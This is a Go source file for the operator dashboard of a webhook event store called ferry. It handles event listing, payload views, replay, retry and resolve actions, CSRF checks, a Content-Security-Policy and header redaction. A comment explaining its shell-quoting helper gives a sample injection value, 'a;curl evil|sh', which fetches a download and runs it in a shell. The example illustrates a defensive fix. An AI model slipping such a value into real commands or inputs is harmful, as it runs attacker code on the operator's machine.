package ferryhttp

import (
	"bytes"
	"context"
	"embed"
	"encoding/json"
	"errors"
	"fmt"
	"html/template"
	"io/fs"
	"log/slog"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/ferry-inbox/ferry"
	"github.com/ferry-inbox/ferry/internal/quoted"
	"github.com/ferry-inbox/ferry/internal/typednil"
)

// DefaultPayloadLimit is how much of a payload the event page shows.
const DefaultPayloadLimit = 64 << 10

// DefaultRefresh is how often the overview refreshes itself.
const DefaultRefresh = 5 * time.Second

// DashboardOptions configure a Dashboard.
type DashboardOptions struct {
	// Store is read and requeued. Required.
	Store ferry.Store
	// AtRiskAfter maps each source to the age past which an unfinished event
	// is at risk (its replay window minus a margin), as in
	// ferry.EventStatsParams.
	AtRiskAfter map[string]time.Duration
	// PayloadLimit caps the payload shown on an event page. Defaults to
	// DefaultPayloadLimit (64 KiB).
	PayloadLimit int
	// PageSize is the number of events a page lists. Defaults to
	// ferry.EventListLimitDefault, 50.
	PageSize int
	// Refresh is how often the overview reloads its counts, at-risk panel
	// and list (paused while a filter is being edited). Defaults to
	// DefaultRefresh; negative turns it off.
	Refresh time.Duration
	// Logger gets one line per replay: what, how many and who (the actor
	// Admin authenticated), never a payload. Defaults to slog.Default().
	Logger *slog.Logger
	// Runnable are the sources a worker runs (ferry's: the config's). A
	// replay takes only their events (ferry.EventRequeueParams.Runnable),
	// and the dashboard offers it for no other. Empty: every source.
	Runnable []string
	// Redaction names, per source, the signature headers its sender chose
	// (a generic HMAC source's), shown redacted as SensitiveHeader's are.
	// Optional.
	Redaction Redaction
}

// Dashboard is the operator's web page at /ui/: counts by state and source,
// the events at risk first, an event table filtered by state, source, type,
// time and id and paged both ways, an event page with its payload, headers,
// conflicting payloads and attempt ledger (with what the app answered), and
// actions: replay one event, retry a pending one now, mark a dead or
// unknown one resolved (done, without running it again), and replay what a
// filter selects after a confirmation that shows the count. It is
// server-rendered HTML; one small script of its own (ui/static/ferry.js,
// the only script the Content-Security-Policy allows) refreshes the
// overview. Every POST is checked against cross-origin requests (CSRF) by
// http.CrossOriginProtection.
//
// It has no credentials of its own: serve it through an Admin, on a
// listener apart from the receiver's.
type Dashboard struct {
	opts    DashboardOptions
	pages   *template.Template
	routes  http.Handler // the pages and actions; Admin wraps them in its own CSRF check
	handler http.Handler // routes behind the CSRF check, for use without an Admin
}

//go:embed ui
var uiFS embed.FS

// NewDashboard checks opts and parses the pages. What it refuses is an
// error wrapping ferry.ErrInvalidParams.
func NewDashboard(opts DashboardOptions) (*Dashboard, error) {
	if typednil.Is(opts.Store) {
		return nil, fmt.Errorf("%w: ferryhttp: DashboardOptions.Store is required", ferry.ErrInvalidParams)
	}
	if opts.PayloadLimit <= 0 {
		opts.PayloadLimit = DefaultPayloadLimit
	}
	if opts.PageSize <= 0 {
		opts.PageSize = ferry.EventListLimitDefault
	}
	if opts.Refresh == 0 {
		opts.Refresh = DefaultRefresh
	}
	if opts.Logger == nil {
		opts.Logger = slog.Default()
	}
	// The requeue's own check, once: a bad name would fail every replay.
	if _, err := (&ferry.EventRequeueParams{Actor: "dashboard", Runnable: opts.Runnable}).Normalize(); err != nil {
		return nil, fmt.Errorf("ferryhttp: DashboardOptions.Runnable: %w", err)
	}
	pages, err := parsePages()
	if err != nil {
		return nil, err
	}
	d := &Dashboard{opts: opts, pages: pages}
	mux := http.NewServeMux()
	static, _ := fs.Sub(uiFS, "ui/static")
	mux.Handle("GET /ui/static/", http.StripPrefix("/ui/static/", http.FileServerFS(static)))
	mux.HandleFunc("GET /ui/{$}", d.overview)
	mux.HandleFunc("GET /ui/live", d.overview)
	mux.HandleFunc("GET /ui/events/{id}", d.event)
	mux.HandleFunc("POST /ui/events/{id}/replay", d.oneEvent("replay", "replayed", "replayed", "not_replayed", "replay_not_confirmed", d.replayOne))
	mux.HandleFunc("POST /ui/events/{id}/retry", d.oneEvent("retry now", "changed", "due", "not_due", "", d.retryNow))
	mux.HandleFunc("POST /ui/events/{id}/resolve", d.oneEvent("resolve", "resolved", "resolved", "not_resolved", "not_confirmed", d.resolve))
	mux.HandleFunc("GET /ui/replay", d.replayConfirm)
	mux.HandleFunc("POST /ui/replay", d.replayMany)
	d.routes, d.handler = mux, http.NewCrossOriginProtection().Handler(mux)
	return d, nil
}

// Register mounts the dashboard at /ui/ on mux, with no credentials: mount
// it on an admin listener of its own, or use Admin.
func (d *Dashboard) Register(mux *http.ServeMux) {
	mux.Handle("/ui/", d)
	mux.Handle("GET /ui", http.RedirectHandler("/ui/", http.StatusFound))
}

// ServeHTTP serves the dashboard's pages and actions, with the security
// headers (Content-Security-Policy, no-store) and the cross-origin check
// on POSTs, but no credentials of its own: serve it through an Admin.
func (d *Dashboard) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	securityHeaders(w.Header())
	d.handler.ServeHTTP(w, r)
}

func securityHeaders(h http.Header) {
	h.Set("Content-Security-Policy", "default-src 'none'; script-src 'self'; connect-src 'self'; style-src 'self'; img-src 'self'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'")
	h.Set("X-Content-Type-Options", "nosniff")
	h.Set("Referrer-Policy", "no-referrer")
	h.Set("Cache-Control", "no-store")
}

func parsePages() (*template.Template, error) {
	return template.New("").Funcs(template.FuncMap{
		"ago":   func(now, t time.Time) string { return ago(now.Sub(t)) },
		"time":  func(t time.Time) string { return t.UTC().Format("2006-01-02 15:04:05Z") },
		"state": func(s ferry.State) string { return string(s) },
		"count": func(s *ferry.SourceStats, st string) int { return s.States[ferry.State(st)] },
		"runs":  runs,
		"took":  func(a *ferry.Attempt) string { return took(a.FinishedAt.Sub(a.StartedAt)) },
		"next":  nextAttempt,
		"shell": shellArg,
	}).ParseFS(uiFS, "ui/*.html")
}

// runs reports whether a worker runs source's events, as
// DashboardOptions.Runnable says: the dashboard offers a replay only then,
// as the store takes one.
func runs(runnable []string, source string) bool {
	return len(runnable) == 0 || slices.Contains(runnable, source)
}

// shellArg quotes s as one POSIX shell word, for a command an operator
// copies from a page: an event id is the sender's to choose (GitHub's and
// Shopify's are unsigned headers), and "a;curl evil|sh" must stay an id.
func shellArg(s string) string {
	safe := s != "" && strings.IndexFunc(s, func(r rune) bool {
		return !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || strings.ContainsRune("_-.:/@%+=,", r))
	}) < 0
	if safe {
		return s
	}
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

// chrome is what every page's frame shows: its title and who is signed in.
type chrome struct {
	Title   string
	Actor   string
	SignOut bool // signed in through the login form, so there is a session to end
	// Refresh is the overview's refresh period in milliseconds, for
	// ferry.js; 0 on every other page.
	Refresh int64
}

func (c *chrome) frame() *chrome { return c }

type page interface{ frame() *chrome }

// overviewData is what overview.html shows, and live.html, the part of it
// ferry.js refreshes.
type overviewData struct {
	chrome
	Runnable []string // DashboardOptions.Runnable
	Stats    *ferry.EventStats
	Totals   map[ferry.State]int
	States   []ferry.State
	Sources  []string
	Events   []*ferry.Event
	Filter   filter
	Older    string // the older page's URL, or ""
	Newer    string // the newer page's URL, or ""
	Replay   string // the bulk replay confirmation of this filter
	Flash    string
	Error    string // a filter that cannot be used, said plainly
	AtRisk   func(*ferry.Event) bool
}

// filter is what the overview's form selects, as the query string carries
// it. Times are UTC, in the datetime-local input's format.
type filter struct {
	State, Source, Type, Q, From, To string
	// Unfinished keeps the events with an attempt that ended without a
	// verdict (EventListParams.LapsedAttempts), as unfinished=1.
	Unfinished bool
}

const filterTime = "2006-01-02T15:04"

func filterOf(v url.Values) filter {
	return filter{State: v.Get("state"), Source: v.Get("source"), Type: v.Get("type"), Q: v.Get("q"), From: v.Get("from"), To: v.Get("to"),
		Unfinished: v.Get("unfinished") == "1"}
}

// values is the filter as a query string's values, empty fields left out.
func (f filter) values() url.Values {
	v := url.Values{}
	for k, x := range map[string]string{"state": f.State, "source": f.Source, "type": f.Type, "q": f.Q, "from": f.From, "to": f.To} {
		if x != "" {
			v.Set(k, x)
		}
	}
	if f.Unfinished {
		v.Set("unfinished", "1")
	}
	return v
}

// url is the overview's URL for the filter plus extra query values.
func (f filter) url(path string, extra ...string) string {
	v := f.values()
	for i := 0; i+1 < len(extra); i += 2 {
		v.Set(extra[i], extra[i+1])
	}
	if len(v) == 0 {
		return path
	}
	return path + "?" + v.Encode()
}

// times parses From and To.
func (f filter) times() (since, until time.Time, err error) {
	for _, t := range []struct {
		in  string
		out *time.Time
		key string
	}{{f.From, &since, "from"}, {f.To, &until, "to"}} {
		if t.in == "" {
			continue
		}
		if *t.out, err = time.Parse(filterTime, t.in); err != nil {
			// The value is not echoed: a crafted link's words stay off the page.
			return since, until, fmt.Errorf("%s is not a time like 2026-01-31T09:30 (UTC)", t.key)
		}
	}
	if !since.IsZero() && !until.IsZero() && until.Before(since) {
		return since, until, errors.New("to is before from")
	}
	return since, until, nil
}

// states is the chosen state, or none (every state). A state that is not
// one is passed on for the store's filter rule to refuse (400), never
// dropped: a list or a replay of every state is not what the link asked for.
func (f filter) states() []ferry.State {
	if f.State == "" {
		return nil
	}
	return []ferry.State{ferry.State(f.State)}
}

// requeue is the bulk requeue of what the filter selects. Without a state
// it takes EventRequeue's default, dead and unknown. Events with an
// unfinished attempt are refused: each one's effect may have run, so each
// is the operator's call, on its own page.
func (f filter) requeue() (*ferry.EventRequeueParams, error) {
	if f.Unfinished {
		return nil, errors.New("a bulk replay does not take the unfinished-attempts filter: the effect of each such event may have run; open each one")
	}
	since, until, err := f.times()
	if err != nil {
		return nil, err
	}
	return &ferry.EventRequeueParams{Source: f.Source, Type: f.Type, EventIDContains: f.Q, Since: since, Until: until, States: f.states()}, nil
}

func (d *Dashboard) overview(w http.ResponseWriter, r *http.Request) {
	ctx := r.Context()
	q := r.URL.Query()
	data := overviewData{chrome: chrome{Title: "Events"}, Runnable: d.opts.Runnable, Filter: filterOf(q), Flash: flashOf(q)}
	if d.opts.Refresh > 0 {
		data.Refresh = d.opts.Refresh.Milliseconds()
	}
	params := &ferry.EventListParams{Source: data.Filter.Source, Type: data.Filter.Type, EventIDContains: data.Filter.Q,
		States: data.Filter.states(), LapsedAttempts: data.Filter.Unfinished, Limit: d.opts.PageSize}
	var err error
	if params.Since, params.Until, err = data.Filter.times(); err != nil {
		data.Error = err.Error()
		params.Since, params.Until = time.Time{}, time.Time{}
	}
	params.Before, _ = strconv.ParseInt(q.Get("before"), 10, 64)
	params.After, _ = strconv.ParseInt(q.Get("after"), 10, 64)
	if params.Before > 0 {
		params.After = 0
	}

	stats, err := d.opts.Store.EventStats(ctx, &ferry.EventStatsParams{AtRiskAfter: d.opts.AtRiskAfter, AtRiskLimit: 100})
	if err != nil {
		d.fail(w, r, "read stats", err)
		return
	}
	list, err := d.opts.Store.EventList(ctx, params)
	if err != nil {
		d.fail(w, r, "list events", err)
		return
	}
	if params.After > 0 && list.NextAfter == 0 {
		// Paged back to the newest: show the first page as it is now, full.
		params.After = 0
		if list, err = d.opts.Store.EventList(ctx, params); err != nil {
			d.fail(w, r, "list events", err)
			return
		}
	}
	data.Stats, data.States, data.Events = stats, ferry.States, list.Events
	data.Totals = map[ferry.State]int{}
	for _, s := range stats.Sources {
		data.Sources = append(data.Sources, s.Source)
		for st, n := range s.States {
			data.Totals[st] += n
		}
	}
	for src := range d.opts.AtRiskAfter {
		if !slices.Contains(data.Sources, src) {
			data.Sources = append(data.Sources, src)
		}
	}
	slices.Sort(data.Sources)
	if n := len(list.Events); n > 0 {
		// An After page came from an older one; a Before page from a newer.
		if list.NextBefore != 0 || params.After > 0 {
			data.Older = data.Filter.url("/ui/", "before", strconv.FormatInt(list.Events[n-1].ID, 10))
		}
		if list.NextAfter != 0 || params.Before > 0 {
			data.Newer = data.Filter.url("/ui/", "after", strconv.FormatInt(list.Events[0].ID, 10))
		}
	}
	data.Replay = data.Filter.url("/ui/replay")
	data.AtRisk = d.atRisk(stats.Now)
	page := "overview.html"
	if r.URL.Path == "/ui/live" {
		page = "live.html"
	}
	d.render(w, r, page, &data)
}

// atRisk says whether e is at risk at now, as EventStats counts it.
func (d *Dashboard) atRisk(now time.Time) func(*ferry.Event) bool {
	params := &ferry.EventStatsParams{AtRiskAfter: d.opts.AtRiskAfter}
	return func(e *ferry.Event) bool { return params.AtRisk(e, now) }
}

// header is one stored header as the event page shows it.
type header struct {
	Name, Value string
	Redacted    bool
}

type eventData struct {
	chrome
	Event      *ferry.Event
	Now        time.Time
	AtRisk     bool
	Attempts   []*ferry.Attempt
	Actions    []*ferry.Action // who requeued, replayed, retried or resolved it, oldest first
	Replays    []*ferry.Replay
	Conflicts  []conflictView
	Original   []line // the stored payload, line by line, beside the conflicts
	Headers    []header
	Payload    string
	PayloadLen int
	Truncated  bool
	Replayable bool
	Retryable  bool // pending and not yet due: "retry now" makes it due
	Resolvable bool // dead or unknown: "mark resolved" closes it as done
	Flash      string

	// ReplaysNotKept and ConflictsNotKept are the deliveries the event
	// counted past the rows listed: a store keeps ferry.NoticeKeep of each
	// kind (a conflicting payload once), and the page lists no more.
	ReplaysNotKept, ConflictsNotKept int
}

// conflictView is one conflicting delivery beside the stored payload.
type conflictView struct {
	ReceivedAt time.Time
	Lines      []line
	Truncated  bool
}

// line is one line of a pretty-printed payload; Differs marks a line that
// is not the same in the other payload of a side-by-side pair.
type line struct {
	Text    string
	Differs bool
}

func (d *Dashboard) event(w http.ResponseWriter, r *http.Request) {
	ctx := r.Context()
	id, err := strconv.ParseInt(r.PathValue("id"), 10, 64)
	if err != nil {
		http.NotFound(w, r)
		return
	}
	e, err := d.opts.Store.EventGet(ctx, &ferry.EventGetParams{ID: id})
	if errors.Is(err, ferry.ErrNotFound) {
		http.NotFound(w, r)
		return
	}
	if err != nil {
		d.fail(w, r, "get event", err)
		return
	}
	attempts, err := d.opts.Store.AttemptList(ctx, &ferry.AttemptListParams{ID: id})
	if err != nil {
		d.fail(w, r, "list attempts", err)
		return
	}
	actions, err := d.opts.Store.ActionList(ctx, &ferry.ActionListParams{ID: id})
	if err != nil {
		d.fail(w, r, "list actions", err)
		return
	}
	replays, err := d.opts.Store.ReplayList(ctx, &ferry.ReplayListParams{ID: id, Limit: ferry.NoticeKeep})
	if err != nil {
		d.fail(w, r, "list replays", err)
		return
	}
	stats, err := d.opts.Store.EventStats(ctx, &ferry.EventStatsParams{})
	if err != nil {
		d.fail(w, r, "read clock", err)
		return
	}
	data := eventData{
		chrome: chrome{Title: e.EventID},
		Event:  e, Now: stats.Now, AtRisk: d.atRisk(stats.Now)(e), Attempts: attempts,
		Actions: actions, Replays: replays, ReplaysNotKept: max(e.Replays-len(replays), 0),
		PayloadLen: len(e.Payload), Flash: flashOf(r.URL.Query()),
		Replayable: e.State.Terminal() && runs(d.opts.Runnable, e.Source),
		Retryable:  e.State == ferry.StatePending && e.NextAttemptAt.After(stats.Now),
		Resolvable: e.State == ferry.StateDead || e.State == ferry.StateUnknown,
	}
	data.Payload, data.Truncated = prettyPayload(e.Payload, d.opts.PayloadLimit)
	if e.Conflicts > 0 {
		conflicts, err := d.opts.Store.ConflictList(ctx, &ferry.ConflictListParams{ID: id, Limit: ferry.NoticeKeep})
		if err != nil {
			d.fail(w, r, "list conflicts", err)
			return
		}
		data.ConflictsNotKept = max(e.Conflicts-len(conflicts), 0)
		original := strings.Split(data.Payload, "\n")
		differs := make([]bool, len(original))
		for _, c := range conflicts {
			text, cut := prettyPayload(c.Payload, d.opts.PayloadLimit)
			view := conflictView{ReceivedAt: c.ReceivedAt, Truncated: cut}
			for i, l := range strings.Split(text, "\n") {
				diff := i >= len(original) || original[i] != l
				view.Lines = append(view.Lines, line{Text: l, Differs: diff})
			}
			for i := range original {
				if i >= len(view.Lines) || view.Lines[i].Text != original[i] {
					differs[i] = true
				}
			}
			data.Conflicts = append(data.Conflicts, view)
		}
		for i, l := range original {
			data.Original = append(data.Original, line{Text: l, Differs: differs[i]})
		}
	}
	for name, values := range e.Headers {
		for _, v := range values {
			h := header{Name: name, Value: v}
			if d.opts.Redaction.Redacted(e.Source, name) {
				h.Value, h.Redacted = "redacted", true
			}
			data.Headers = append(data.Headers, h)
		}
	}
	slices.SortFunc(data.Headers, func(a, b header) int { return strings.Compare(a.Name, b.Name) })
	d.render(w, r, "event.html", &data)
}

// Redaction maps a source to the signature headers its sender chose, which
// no rule of names can know: a generic HMAC source's header is whatever the
// sender calls it.
type Redaction map[string][]string

// Redacted reports whether the stored header name of an event of source
// is shown redacted, on the dashboard and by the CLI: SensitiveHeader's,
// and the source's own signature headers.
func (r Redaction) Redacted(source, name string) bool {
	return SensitiveHeader(name) || slices.ContainsFunc(r[source], func(h string) bool {
		return strings.EqualFold(h, name)
	})
}

// SensitiveHeader reports headers whose value is never stored by the
// Receiver, nor shown on the dashboard or by the CLI (a store may hold one
// written otherwise): signatures and anything credential-like. Generic
// senders pick their own header names, so a name is judged by its words as
// well as by the known list.
func SensitiveHeader(name string) bool {
	if signatureHeaders[http.CanonicalHeaderKey(name)] {
		return true
	}
	n := strings.ToLower(name)
	for _, word := range []string{"signature", "secret", "token", "authorization", "cookie", "api-key", "hmac"} {
		if strings.Contains(n, word) {
			return true
		}
	}
	return false
}

// prettyPayload indents JSON (other bytes are shown as text) and cuts it at
// limit bytes, on a UTF-8 boundary.
func prettyPayload(payload []byte, limit int) (string, bool) {
	var buf bytes.Buffer
	if json.Indent(&buf, payload, "", "  ") != nil {
		buf.Reset()
		buf.Write(payload)
	}
	s := buf.String()
	if len(s) <= limit {
		return s, false
	}
	return strings.ToValidUTF8(s[:limit], ""), true // drops a rune cut in half
}

// flashes are the messages a redirect after an action shows, by code: the
// page never prints text from its URL, so a link cannot put words of its
// own on an operator's screen.
var flashes = map[string]string{
	"replayed":             "replayed: the event is pending and a worker will take it",
	"not_replayed":         "not replayed: the event is already pending or running, or its source is not configured",
	"due":                  "due now: a worker will take it at once",
	"not_due":              "not changed: the event is not waiting for a retry",
	"resolved":             "resolved: the event is done and will not run again",
	"not_resolved":         "not resolved: only a dead or unknown event can be",
	"not_confirmed":        "not resolved: tick the box first, to confirm its effect happened or it is to be discarded",
	"replay_not_confirmed": "not replayed: tick the box first, to confirm it is to run again",
}

// flashOf is the message q's flash code names, or "".
func flashOf(q url.Values) string {
	if q.Get("flash") == "replayed_many" {
		if n, err := strconv.Atoi(q.Get("n")); err == nil && n >= 0 {
			return fmt.Sprintf("replayed %d events", n)
		}
	}
	return flashes[q.Get("flash")]
}

// oneEvent is a POST on one event's page, as the actor the Admin in front
// authenticated. act changes the event, or reports that it left it as it
// was (changed false); what it counted is logged under key. The event's
// page comes back with the flash yes or no. With unconfirmed set, act runs
// only when the form has confirm=yes, the box an operator ticks beside an
// action that closes an event unrun or runs its effect again; otherwise the
// page comes back unchanged with the flash unconfirmed.
func (d *Dashboard) oneEvent(what, key, yes, no, unconfirmed string, act func(ctx context.Context, id int64, actor string) (count any, changed bool, err error)) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		id, err := strconv.ParseInt(r.PathValue("id"), 10, 64)
		if err != nil || id <= 0 {
			http.NotFound(w, r)
			return
		}
		if unconfirmed != "" {
			r.Body = http.MaxBytesReader(w, r.Body, 1<<10)
			if r.PostFormValue("confirm") != "yes" {
				http.Redirect(w, r, fmt.Sprintf("/ui/events/%d?flash=%s", id, unconfirmed), http.StatusSeeOther)
				return
			}
		}
		actor := actorOf(r.Context())
		count, changed, err := act(r.Context(), id, actor)
		if err != nil {
			d.fail(w, r, what, err)
			return
		}
		flash := yes
		if !changed {
			flash = no
		}
		attrs := []any{"id", id, key, count, "actor", actor}
		// The provider's id too, which is what on-call searches the log
		// for; the action is done, so a failed read only shortens the line.
		if e, err := d.opts.Store.EventGet(r.Context(), &ferry.EventGetParams{ID: id}); err == nil {
			attrs = append(attrs, "source", e.Source, "event_id", e.EventID)
		}
		d.opts.Logger.Info("ferry: dashboard "+what, attrs...)
		http.Redirect(w, r, fmt.Sprintf("/ui/events/%d?flash=%s", id, flash), http.StatusSeeOther)
	}
}

// replayOne requeues a done, dead or unknown event.
func (d *Dashboard) replayOne(ctx context.Context, id int64, actor string) (any, bool, error) {
	n, err := d.requeue(ctx, actor, &ferry.EventRequeueParams{IDs: []int64{id}})
	return n, n > 0, err
}

// retryNow makes a pending event in backoff due now.
func (d *Dashboard) retryNow(ctx context.Context, id int64, actor string) (any, bool, error) {
	ok, err := d.opts.Store.EventRetryNow(ctx, &ferry.EventRetryNowParams{ID: id, Actor: actor})
	return ok, ok, err
}

// resolve closes a dead or unknown event as done without running it: its
// effect was confirmed by hand, or the operator discards it.
func (d *Dashboard) resolve(ctx context.Context, id int64, actor string) (any, bool, error) {
	n, err := d.opts.Store.EventResolve(ctx, &ferry.EventResolveParams{IDs: []int64{id}, Actor: actor})
	return n, n > 0, err
}

// replayData is what replay.html shows: what a bulk replay would take.
type replayData struct {
	chrome
	Filter filter
	Hidden map[string]string // the filter, for the confirming POST
	States []ferry.State     // the states the replay takes
	// Runnable are the only sources it takes (DashboardOptions.Runnable).
	Runnable []string
	Count    int
	Back     string
}

// replayConfirm counts what a bulk replay of the filter would take (a dry
// run: the requeue's own rule, read only, so opening the page writes
// nothing) and asks to confirm it.
func (d *Dashboard) replayConfirm(w http.ResponseWriter, r *http.Request) {
	f := filterOf(r.URL.Query())
	params, err := f.requeue()
	if err != nil {
		badRequest(w, err)
		return
	}
	params.Actor = actorOf(r.Context()) // a dry run records nothing, but is checked as the real one
	norm, err := params.Normalize()
	if err != nil {
		badRequest(w, err)
		return
	}
	// The replay takes only events that exist now, so the count confirmed
	// is not outgrown by deliveries that arrive before the click.
	newest, err := d.opts.Store.EventList(r.Context(), &ferry.EventListParams{Limit: 1})
	if err != nil {
		d.fail(w, r, "count replay", err)
		return
	}
	if len(newest.Events) > 0 {
		params.Before = newest.Events[0].ID + 1
	}
	params.DryRun = true
	n, err := d.requeue(r.Context(), params.Actor, params)
	if err != nil {
		d.fail(w, r, "count replay", err)
		return
	}
	data := replayData{chrome: chrome{Title: "Replay"}, Filter: f, Hidden: map[string]string{}, States: norm.States, Runnable: d.opts.Runnable, Count: n, Back: f.url("/ui/")}
	for k := range f.values() {
		data.Hidden[k] = f.values().Get(k)
	}
	data.Hidden["upto"] = strconv.FormatInt(params.Before, 10)
	d.render(w, r, "replay.html", &data)
}

// replayMany replays what the posted filter selects.
func (d *Dashboard) replayMany(w http.ResponseWriter, r *http.Request) {
	if err := r.ParseForm(); err != nil {
		http.Error(w, "bad form", http.StatusBadRequest)
		return
	}
	f := filterOf(r.PostForm)
	params, err := f.requeue()
	if err != nil {
		badRequest(w, err)
		return
	}
	// upto is the confirmation's bound: events received since are not taken.
	// Without it the replay would take more than the confirmation counted.
	upto, err := strconv.ParseInt(r.PostFormValue("upto"), 10, 64)
	if err != nil || upto <= 0 {
		http.Error(w, "upto is missing or not a positive event id: replay from the confirmation page (/ui/replay), which bounds what it counted", http.StatusBadRequest)
		return
	}
	params.Before = upto
	actor := actorOf(r.Context())
	n, err := d.requeue(r.Context(), actor, params)
	if err != nil {
		d.fail(w, r, "replay", err)
		return
	}
	d.opts.Logger.Info("ferry: dashboard bulk replay", "filter", f.values().Encode(), "replayed", n, "actor", actor)
	http.Redirect(w, r, f.url("/ui/", "flash", "replayed_many", "n", strconv.Itoa(n)), http.StatusSeeOther)
}

// requeue is the one place a dashboard action reaches the store, and so
// the one place that hands the store who asked for it.
func (d *Dashboard) requeue(ctx context.Context, actor string, params *ferry.EventRequeueParams) (int, error) {
	params.Actor = actor // kept with each requeued event (Store.ActionList)
	params.Runnable = d.opts.Runnable
	return d.opts.Store.EventRequeue(ctx, params)
}

// actorOf is who the Admin in front authenticated, or "unknown" when the
// dashboard is served without one.
func actorOf(ctx context.Context) string {
	if p, ok := principalOf(ctx); ok {
		return p.actor
	}
	return "unknown"
}

func (d *Dashboard) render(w http.ResponseWriter, r *http.Request, name string, data page) {
	if p, ok := principalOf(r.Context()); ok {
		data.frame().Actor, data.frame().SignOut = p.actor, p.session != nil
	}
	renderPage(w, d.pages, d.opts.Logger, name, data)
}

func renderPage(w http.ResponseWriter, pages *template.Template, log *slog.Logger, name string, data any) {
	var buf bytes.Buffer
	if err := pages.ExecuteTemplate(&buf, name, data); err != nil {
		log.Error("ferry: dashboard template", "page", name, "err", err)
		http.Error(w, "template error", http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	w.Write(buf.Bytes())
}

// badRequest answers 400 with err, a filter or form the dashboard refuses,
// without the text err quotes: it comes from the link, and a link cannot
// put words of its own on an operator's screen.
func badRequest(w http.ResponseWriter, err error) {
	msg, _ := quoted.Hide(err.Error(), "(the link's value, not shown)")
	http.Error(w, msg, http.StatusBadRequest)
}

func (d *Dashboard) fail(w http.ResponseWriter, r *http.Request, op string, err error) {
	if errors.Is(err, ferry.ErrInvalidParams) { // a filter no stored text matches
		badRequest(w, err)
		return
	}
	d.opts.Logger.Warn("ferry: dashboard: store error", "op", op, "path", r.URL.Path, "err", err)
	http.Error(w, "the store did not answer: "+op, http.StatusServiceUnavailable)
}

// took writes an attempt's duration: "85ms", "2.4s", "3m".
func took(d time.Duration) string {
	switch {
	case d < 0:
		return "–"
	case d < time.Second:
		return fmt.Sprintf("%dms", d.Milliseconds())
	case d < time.Minute:
		return fmt.Sprintf("%.1fs", d.Seconds())
	}
	return ago(d)
}

// nextAttempt says when a pending event runs: "due" or "in 4m".
func nextAttempt(now time.Time, e *ferry.Event) string {
	if e.State != ferry.StatePending {
		return ""
	}
	if !e.NextAttemptAt.After(now) {
		return "due"
	}
	return "in " + ago(e.NextAttemptAt.Sub(now))
}

// ago writes a duration the way an operator reads it: "3d 4h", "12m".
func ago(d time.Duration) string {
	switch {
	case d < time.Minute:
		return fmt.Sprintf("%ds", int(d.Seconds()))
	case d < time.Hour:
		return fmt.Sprintf("%dm", int(d.Minutes()))
	case d < 48*time.Hour:
		return fmt.Sprintf("%dh %dm", int(d.Hours()), int(d.Minutes())%60)
	}
	return fmt.Sprintf("%dd %dh", int(d.Hours())/24, int(d.Hours())%24)
}
